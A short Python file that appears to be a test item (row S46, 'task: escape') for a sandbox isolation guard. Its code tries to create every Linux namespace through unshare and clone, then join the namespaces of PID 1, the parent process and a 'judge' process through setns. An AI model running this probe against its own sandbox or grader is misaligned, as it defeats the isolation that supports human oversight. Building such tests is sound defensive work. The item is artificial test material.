# verdict: AC — asks for new namespaces in every way, and for those of others
# task: escape
# row: S46
# guard: isolation WA
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
KINDS = {"user": 0x10000000, "mount": 0x20000, "pid": 0x20000000, "net": 0x40000000, "ipc": 0x8000000, "uts": 0x4000000}
KINDS |= {"cgroup": 0x2000000}
NEW_TIME = 0x80  # of unshare only: to clone it would be part of the signal
CLONE = 56
SIGCHLD = 17


def escape(bait):
    reached = []
    for name, flag in {**KINDS, "time": NEW_TIME}.items():
        pid = os.fork()
        if pid == 0:
            os._exit(1 if libc.unshare(flag) == 0 else 0)
        if os.waitpid(pid, 0)[1]:
            reached.append(f"unshare {name}")
    for name, flag in KINDS.items():
        if os.uname().machine == "x86_64":
            child = libc.syscall(CLONE, flag | SIGCHLD, 0, 0, 0, 0)
            if child == 0:
                os._exit(0)
            if child > 0:
                os.waitpid(child, 0)
                reached.append(f"clone {name}")
    for owner in (1, os.getppid(), bait["judge"]):
        for name in ("user", "mnt", "pid", "net", "ipc", "uts", "cgroup"):
            try:
                fd = os.open(f"/proc/{owner}/ns/{name}", os.O_RDONLY)
            except OSError:
                continue
            pid = os.fork()
            if pid == 0:
                os._exit(1 if libc.setns(fd, 0) == 0 else 0)
            if os.waitpid(pid, 0)[1]:
                reached.append(f"joined {name} of {owner}")
            os.close(fd)
    return reached
